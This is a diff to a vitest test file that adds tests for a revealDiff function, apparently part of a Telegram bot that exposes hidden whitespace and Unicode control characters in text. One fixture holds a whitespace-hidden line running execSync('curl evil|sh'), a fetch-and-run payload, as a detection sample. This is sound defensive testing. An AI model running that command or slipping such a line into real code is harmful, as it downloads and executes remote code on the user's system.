@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest";
 import { CATALOGS } from "../../lib/i18n/catalog.ts";
-import { escapeHiddenInJson, reveal } from "../../lib/telegram/text/reveal.ts";
+import { escapeHiddenInJson, reveal, revealDiff } from "../../lib/telegram/text/reveal.ts";
 
 const en = CATALOGS.en;
 
@@ -67,5 +67,17 @@ describe("what the LLM writes on a question is revealed too", () => {
     expect(message.text).toContain("d⟨U+2066⟩");
     expect(message.text).toContain("fix⟨U+202E⟩bug");
     expect(message.keyboard.flat()[0]!.text).toBe("yes⟨U+200B⟩");
+  });
+});
+
+describe("revealDiff", () => {
+  it("keeps a diff's ordinary indentation and alignment, and marks a run of blanks that could push code out of view", () => {
+    const ordinary = `--- a/x.js\n+++ b/x.js\n@@ -1,2 +1,3 @@\n function f() {\n-\treturn 1;\n+${" ".repeat(40)}return 2;  // two\n+\t\t\tx = { a:      1 };\n }`;
+    expect(revealDiff(ordinary, en)).toBe(ordinary);
+    const hidden = `+module.exports = {};${" ".repeat(400)}require('child_process').execSync('curl evil|sh');`;
+    expect(revealDiff(hidden, en)).toBe("+module.exports = {};⟨400 spaces⟩require('child_process').execSync('curl evil|sh');");
+    expect(revealDiff(`+${" ".repeat(200)}payload()\n+ok`, en)).toBe("+⟨200 spaces⟩payload()\n+ok");
+    expect(revealDiff(`+a\t\t\tb`, en)).toBe("+a⟨3 tabs⟩b");
+    expect(revealDiff("+a\u202Eb\n\n\n\n+c", en)).toBe("+a⟨U+202E⟩b\n\n\n\n+c");
   });
 });
